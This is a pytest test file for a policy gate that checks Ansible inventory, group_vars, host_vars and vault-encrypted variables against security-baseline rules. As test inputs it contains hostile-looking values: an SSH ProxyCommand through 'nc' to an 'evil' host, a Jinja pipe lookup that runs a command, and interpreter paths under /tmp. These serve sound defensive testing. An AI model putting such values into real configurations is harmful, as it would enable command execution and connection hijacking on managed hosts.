"""The gate sees every variable Ansible will see, and no role variable weakens a control unseen.

Sources (group_vars/host_vars beside the inventory and beside the playbook, catalogue host vars),
the inventory directory refusal, vault decryption with deploy's secrets (failing closed), and the
deny-by-default classification of every role variable in policy/thresholds.yaml.
"""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from policy_helpers import check
from idcpilot.errors import UserInputError
from idcpilot.policy.baseline import retention_bytes, templated, weakness
from idcpilot.policy.rolevars import role_vars
from idcpilot.policy.thresholds import load as load_thresholds
from idcpilot.policy.vault import VaultOptions

PASSWORD = "correct horse battery staple"


def failing(report, rule=None):
    return [f for f in report.findings if f.status == "fail" and (rule is None or f.rule.id == rule)]


def encrypt(text: str, password: str = PASSWORD) -> str:
    from ansible.parsing.vault import VaultLib, VaultSecret

    return VaultLib([("default", VaultSecret(password.encode()))]).encrypt(text).decode()


def inline(text: str) -> str:
    """A ``!vault |`` block value."""
    return "!vault |\n" + "\n".join("  " + line for line in encrypt(text).splitlines())


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    p = tmp_path / "vault-pass"
    p.write_text(PASSWORD + "\n")
    return p


# ------------------------------------------------------------------ the issue's examples: each fails a named rule

ISSUE_EXAMPLES = [
    ("baseline_firewall_enabled: false", "MLPS3-MINIMAL"),
    ("baseline_auditd_enabled: false", "MLPS3-AUDIT"),
    ("baseline_password_policy_enabled: false", "MLPS3-AUTH-PASSWORD"),
    ("baseline_management_cidrs: [0.0.0.0/0]", "MLPS3-MGMT-ACL"),
    ("baseline_firewall_extra_rules: [accept]", "MLPS3-MINIMAL"),
    ('baseline_audit_extra_rules: ["-a never,task"]', "MLPS3-AUDIT"),
    ("baseline_log_forward_auth_mode: anon", "MLPS3-AUDIT-RETENTION"),
    ("baseline_pass_max_days: 9999", "MLPS3-AUTH-PASSWORD"),
]
PLACES = ["group_vars/all.yml", "group_vars/role_cdn_node/x.yml", "host_vars/bj-core-1-bastion.yml", "playbook group_vars/all.yml",
          "playbook host_vars/bj-core-1-bastion"]


@pytest.mark.parametrize("line, rule", ISSUE_EXAMPLES, ids=[r + ":" + line.split(":")[0] for line, r in ISSUE_EXAMPLES])
@pytest.mark.parametrize("place", PLACES)
def test_issue_example_fails_its_rule_from_every_place(line, rule, place, make_env, tmp_path):
    if place.startswith("playbook "):
        env = make_env()
        pb = tmp_path / "playbooks"
        (pb / place.split(" ", 1)[1]).parent.mkdir(parents=True)
        (pb / place.split(" ", 1)[1]).write_text(line + "\n")
        report = check(env, playbook_dir=pb)
    else:
        env = make_env(files={place: "---\n" + line + "\n"})
        report = check(env)
    [f] = failing(report, rule)
    name = line.split(":")[0]
    assert name in f.message and f.location.line in (1, 2)
    assert f.location.file.endswith(place.split(" ", 1)[-1])


def test_the_issue_examples_exist_in_the_role_defaults():
    defaults = role_vars().defaults
    for line, _ in ISSUE_EXAMPLES:
        assert line.split(":")[0] in defaults


def test_a_weak_value_in_catalogue_host_vars_fails(make_env):
    edits = [("- {name: gz-edge-1-legacy-01, roles: [baseline, monitoring], automated: false}",
              "- {name: gz-edge-1-legacy-01, roles: [baseline, monitoring], automated: false, vars: {baseline_firewall_enabled: false}}")]
    [f] = failing(check(make_env(estate_edits=edits)), "MLPS3-MINIMAL")
    assert f.target == "host/gz-edge-1-legacy-01" and f.location.file.endswith("estate.yaml")


# ------------------------------------------------------------------ every layer is judged, whatever wins precedence


def test_a_weak_group_value_is_not_excused_by_a_host_that_restores_it(make_env):
    env = make_env(files={"group_vars/site_bj_core_1.yml": "baseline_tmout: 3600\n",
                          "host_vars/bj-core-1-bastion.yml": "baseline_tmout: 300\n"})
    [f] = failing(check(env), "MLPS3-AUTH-TIMEOUT")
    assert f.target == "group/site_bj_core_1" and "reaches 72 host(s)" in f.message


def test_a_later_file_of_a_group_directory_does_not_hide_an_earlier_one(make_env):
    env = make_env(files={"group_vars/all/a.yml": "baseline_faillock_deny: 10\n", "group_vars/all/b.yml": "baseline_faillock_deny: 3\n"})
    [f] = failing(check(env), "MLPS3-AUTH-LOCKOUT")
    assert f.location.file.endswith("group_vars/all/a.yml")


def test_group_priority_from_group_vars_cannot_hide_a_weak_value(make_env):
    # Ansible ignores ansible_group_priority in group_vars/ (it orders groups by name): the site group
    # wins, so the gate must not believe the role group's claimed priority.
    env = make_env(files={"group_vars/role_cdn_node.yml": "ansible_group_priority: 10\nbaseline_logrotate_days: 365\n",
                          "group_vars/site_bj_core_1.yml": "baseline_logrotate_days: 30\n"})
    [f] = failing(check(env), "MLPS3-AUDIT-RETENTION")
    assert f.target == "group/site_bj_core_1"


def test_files_are_found_as_ansible_finds_them(make_env):
    # `all` (no extension) comes first: Ansible never reads all.yml then, and neither may the gate
    # judge a value that does not reach the hosts; hidden, backup and other-extension files are skipped.
    env = make_env(files={"group_vars/all": "baseline_tmout: 9000\n", "group_vars/all.yml": "baseline_umask: '000'\n",
                          "host_vars/bj-core-1-bastion/.hidden.yml": "baseline_umask: '000'\n",
                          "host_vars/bj-core-1-bastion/x.yml~": "baseline_umask: '000'\n",
                          "host_vars/bj-core-1-bastion/notes.txt": "baseline_umask: '000'\n",
                          "host_vars/bj-core-1-bastion/sub/deep": "baseline_banner_enabled: false\n"})
    report = check(env)
    assert {f.rule.id for f in failing(report)} == {"MLPS3-AUTH-TIMEOUT", "MLPS3-BANNER"}
    assert any("group_vars/all.yml" in w and "not read by Ansible" in w for w in report.warnings)


def test_ansible_reads_the_same_group_vars_file(tmp_path):
    """Differential check with Ansible itself: `group_vars/all` shadows `group_vars/all.yml`."""
    from tests.adversarial.hostile import ansible, copy_estate

    env = copy_estate(tmp_path)
    env.write("group_vars/all", "baseline_tmout: 9000\n")
    env.write("group_vars/all.yml", "baseline_tmout: 300\n")
    proc = ansible("ansible-inventory", "-i", env.root, "--host", "bj-core-1-bastion")
    assert proc.returncode == 0, proc.stderr
    assert yaml.safe_load(proc.stdout)["baseline_tmout"] == 9000


# ------------------------------------------------------------------ deny by default


def test_every_role_variable_is_classified(repo):
    """A new argument_specs variable forces a decision in policy/thresholds.yaml."""
    classes = load_thresholds(repo / "policy" / "thresholds.yaml").get("variables")
    missing = sorted(n for n in role_vars().owner if n not in classes)
    assert not missing, f"classify these role variables in policy/thresholds.yaml variables: {missing}"


def test_every_argument_spec_is_read(repo):
    specs = 0
    for f in (repo / "roles").glob("*/meta/argument_specs.yml"):
        for entry in yaml.safe_load(f.read_text())["argument_specs"].values():
            for name in entry.get("options", {}):
                specs += 1
                assert name in role_vars().owner
    assert specs >= 240  # every role, not a subset (8 roles, 245 variables when this was written)


def test_every_role_default_keeps_its_own_constraint(repo):
    th = load_thresholds(repo / "policy" / "thresholds.yaml")
    classes = th.get("variables")
    rv = role_vars()
    for name, spec in classes.items():
        if not isinstance(spec, dict) or "rule" not in spec or not rv.has_default(name):
            continue
        default = rv.default(name)
        if templated(default) or len(spec) == 1 or spec.get("vaulted"):
            continue
        assert weakness(default, spec, default, {"managementCidrs": ["0.0.0.0/0"], "ntpServers": []}, retention_bytes(th)) is None, name


def test_an_unclassified_role_variable_fails_pilot_mlps3(make_env):
    env = make_env(files={"group_vars/all.yml": "baseline_firewall_enable: false\nmy_site_note: free text\n"})
    [f] = failing(check(env))
    assert f.rule.id == "PILOT-MLPS3" and "baseline_firewall_enable" in f.message and "not classified" in f.message


def test_an_unclassified_variable_in_a_custom_thresholds_file_fails(make_env, repo, tmp_path):
    text = (repo / "policy" / "thresholds.yaml").read_text().replace("    baseline_tmout: {rule: MLPS3-AUTH-TIMEOUT, min: 1, max: 600}\n", "")
    (tmp_path / "t.yaml").write_text(text)
    env = make_env(files={"group_vars/all.yml": "baseline_tmout: 300\n"})
    [f] = failing(check(env, thresholds_file=tmp_path / "t.yaml"))
    assert f.rule.id == "PILOT-MLPS3" and "baseline_tmout" in f.message


@pytest.mark.parametrize("text, rule", [
    ("idcpilot_zt: {default_deny: false}", "PILOT-ZT"),
    ("zt_gateway_default_deny: false", "PILOT-ZT"),
    ("idcpilot_management_cidrs: [10.0.0.0/8]", "MLPS3-MGMT-ACL"),
    ("sdwan_edge_supported_encryption: [wireguard, none]", "PILOT-SDWAN-ENCRYPT"),
    ("k8s_node_registry: docker.io", "K8S-REGISTRY"),
    ("cdn_node_ssl_protocols: TLSv1 TLSv1.2", "MLPS3-TLS"),
    ("zt_gateway_threat_sync_minutes: 60", "PILOT-THREAT-INTEL"),
    ("monitoring_host_automated: true", "PILOT-AUTOOPS"),
    ("bootstrap_apt_mirror: http://mirror.example/debian", "MLPS3-INTEGRITY"),
    ("idcpilot_ntp_servers: [203.0.113.9]", "MLPS3-TIME"),
    ("baseline_tmout: .nan", "MLPS3-AUTH-TIMEOUT"),
    ("baseline_ssh_port: \"{{ 22 }}\"", "MLPS3-MGMT-ACL"),
    ("cdn_node_worker_connections: \"{{ lookup('pipe', 'id') }}\"", "PILOT-MLPS3"),
    ("sdwan_edge_preshared_keys: {'a:b': c2VjcmV0}", "PILOT-SDWAN-ENCRYPT"),
    ("ansible_ssh_common_args: -o ProxyCommand=nc evil 22", "MLPS3-AUTH-REMOTE"),
    ("ansible_host: 192.0.2.66", "MLPS3-MGMT-ACL"),
    ("ansible_become_exe: /tmp/x", "MLPS3-ACCESS-ACCOUNTS"),
    ("ansible_python_interpreter: /tmp/evil", "PILOT-MLPS3"),
    ("ansible_ssh_executable_typo: x", "PILOT-MLPS3"),
    # the idcpilot_linear strategy's (Mitogen's) connection variables: none may be set
    ("mitogen_via: lab-bj-gw01", "PILOT-MLPS3"),
    ("mitogen_ssh_debug_level: 3", "PILOT-MLPS3"),
    ("mitogen_machinectl_path: /tmp/evil", "PILOT-MLPS3"),
])
def test_role_variables_of_every_role_are_judged(text, rule, make_env):
    report = check(make_env(files={"group_vars/all.yml": text + "\n"}))
    assert [f.rule.id for f in failing(report)] == [rule], [f.message for f in failing(report)]


@pytest.mark.parametrize("text", [
    "cdn_node_worker_connections: 16384", "baseline_ssh_port: 2222", "baseline_pass_max_days: 60",
    "baseline_tmout: '300'", "baseline_ssh_ciphers: [aes256-gcm@openssh.com]", "idcpilot_management_cidrs: [10.10.1.0/24]",
    "baseline_high_risk_packages: [telnetd, inetutils-telnetd, telnet-server, rsh-server, rsh-redone-server, tftpd, tftpd-hpa,"
    " tftp-server, atftpd, xinetd, ypserv, nis, vsftpd, proftpd-basic, pure-ftpd, talkd, rlinetd, ftpd, inetutils-ftpd,"
    " openbsd-inetd, inetutils-inetd, proftpd, finger]",
    "baseline_firewall_enabled: yes", "zt_gateway_min_tls: '1.3'", "my_own_variable: \"{{ anything }}\"",
    "ansible_user: \"{{ idcpilot_automation_account }}\"", "ansible_become: true", "ansible_port: 2222",
])
def test_values_that_keep_the_controls_pass(text, make_env):
    assert failing(check(make_env(files={"group_vars/all.yml": text + "\n"}))) == []


def test_the_lab_group_vars_pass(repo):
    from idcpilot import catalogue
    from idcpilot.policy import engine

    report = engine.run(catalogue.load(repo / "inventories" / "lab"), plan=False)
    assert failing(report) == []


# ------------------------------------------------------------------ the inventory directory


@pytest.mark.parametrize("name, text", [
    ("hosts", "[x]\nevil ansible_host=10.0.0.1 baseline_firewall_enabled=false\n"),
    ("extra.yaml", "all: {vars: {baseline_firewall_enabled: false}}\n"),
    ("more/estate.yaml", "apiVersion: idcpilot/v1\n"),
    ("vars_plugins/x.py", "print(1)\n"),
])
def test_unknown_files_in_the_inventory_directory_are_refused(name, text, make_env):
    env = make_env(files={name: text})
    with pytest.raises(UserInputError) as exc:
        check(env)
    [p] = exc.value.problems
    assert p.file.endswith(name.split("/")[0]) and "inventory source" in p.message


def test_what_ansible_ignores_may_stay_in_the_inventory_directory(make_env):
    env = make_env(files={"README.md": "notes\n", "waivers.yaml": "waivers: []\n", ".editorconfig": "x\n", "old.bak": "x\n",
                          "Pulumi.dev.yaml": "config: {}\n"})
    assert failing(check(env)) == []


# ------------------------------------------------------------------ vault


def test_a_vault_file_without_the_secret_stops_the_gate(make_env):
    env = make_env(files={"group_vars/all/vault.yml": encrypt("baseline_tmout: 600\n")})
    with pytest.raises(UserInputError) as exc:
        check(env)
    [p] = exc.value.problems
    assert p.file.endswith("group_vars/all/vault.yml") and "no vault secret" in p.message


def test_a_vault_file_with_the_secret_is_judged_and_its_values_not_shown(make_env, secret_file):
    env = make_env(files={"group_vars/all/vault.yml": encrypt("db_password: hunter2-very-secret\nbaseline_ssh_password_authentication: yes-please\n")})
    report = check(env, vault=VaultOptions((), (str(secret_file),)))
    [f] = failing(report)
    assert f.rule.id == "MLPS3-AUTH-REMOTE" and f.location.file.endswith("group_vars/all/vault.yml") and f.location.line == 2
    assert "yes-please" not in f.message and "hunter2" not in str(report.as_dict()) and "not shown" in f.message


def test_a_vault_file_with_a_labelled_vault_id_is_read(make_env, secret_file):
    env = make_env(files={"host_vars/bj-core-1-bastion.yml": encrypt("baseline_tmout: 9999\n")})
    [f] = failing(check(env, vault=VaultOptions((f"prod@{secret_file}",), ())))
    assert f.rule.id == "MLPS3-AUTH-TIMEOUT"


def test_the_wrong_secret_stops_the_gate(make_env, tmp_path):
    (tmp_path / "wrong").write_text("nope\n")
    env = make_env(files={"group_vars/all.yml": encrypt("baseline_tmout: 600\n")})
    with pytest.raises(UserInputError) as exc:
        check(env, vault=VaultOptions((), (str(tmp_path / "wrong"),)))
    assert "cannot decrypt" in exc.value.problems[0].message


def test_an_inline_vault_value_is_decrypted_and_judged(make_env, secret_file):
    env = make_env(files={"group_vars/all.yml": f"x: 1\nbaseline_pass_max_days: {inline('9999')}\n"})
    with pytest.raises(UserInputError) as exc:
        check(env)
    [p] = exc.value.problems
    assert (p.line, p.field) == (2, "baseline_pass_max_days")
    [f] = failing(check(env, vault=VaultOptions((), (str(secret_file),))))
    assert f.rule.id == "MLPS3-AUTH-PASSWORD" and "9999" not in f.message and f.location.line == 2


def test_an_inline_vault_value_that_keeps_the_default_passes(make_env, secret_file):
    env = make_env(files={"group_vars/all.yml": f"baseline_pass_max_days: {inline('60')}\nsdwan_edge_preshared_keys: {inline('k')}\n"})
    assert failing(check(env, vault=VaultOptions((), (str(secret_file),)))) == []


def test_untagged_vault_ciphertext_is_refused(make_env, secret_file):
    text = encrypt("9999").replace("\n", "\\n")
    env = make_env(files={"group_vars/all.yml": f'baseline_pass_max_days: "{text}"\n'})
    with pytest.raises(UserInputError) as exc:
        check(env, vault=VaultOptions((), (str(secret_file),)))
    assert "without the !vault tag" in exc.value.problems[0].message


def test_vaults_for_no_host_are_not_opened(make_env):
    env = make_env(files={"group_vars/webservers.yml": encrypt("baseline_tmout: 9999\n")})
    report = check(env)
    assert failing(report) == [] and any("webservers" in w for w in report.warnings)


@pytest.mark.parametrize("text, secret", [
    ("baseline_management_cidrs: [198.51.100.77/32]\n", "198.51.100.77"),
    ("baseline_journald_max_retention: 17d\n", "17"),
    ("baseline_ssh_ciphers: [aes256-ctr, sekrit-cipher-name]\n", "sekrit"),
])
def test_a_reason_never_quotes_a_vaulted_value(text, secret, make_env, secret_file):
    env = make_env(files={"group_vars/all.yml": encrypt(text)})
    [f] = failing(check(env, vault=VaultOptions((), (str(secret_file),))))
    assert secret not in f.message and "not shown" in f.message and "thresholds.yaml" in f.message


def test_a_malformed_vault_never_quotes_its_plain_text(make_env, secret_file):
    env = make_env(files={"group_vars/all.yml": encrypt("db_password: 2026-13-45\nother: [unclosed hunter2\n")})
    with pytest.raises(UserInputError) as exc:
        check(env, vault=VaultOptions((), (str(secret_file),)))
    text = str(exc.value)
    assert "hunter2" not in text and "2026-13-45" not in text and "group_vars/all.yml:" in text


def test_an_unsafe_copy_of_a_templated_default_is_not_the_default(make_env):
    # !unsafe makes Ansible use the text as it is: the management networks would become a string
    env = make_env(files={"group_vars/all.yml": "baseline_management_cidrs: !unsafe \"{{ idcpilot_management_cidrs | default([]) }}\"\n"})
    [f] = failing(check(env))
    assert f.rule.id == "MLPS3-MGMT-ACL" and "Jinja" in f.message


def test_the_templated_default_written_out_is_the_default(make_env):
    env = make_env(files={"group_vars/all.yml": "baseline_management_cidrs: \"{{ idcpilot_management_cidrs | default([]) }}\"\n"})
    assert failing(check(env)) == []
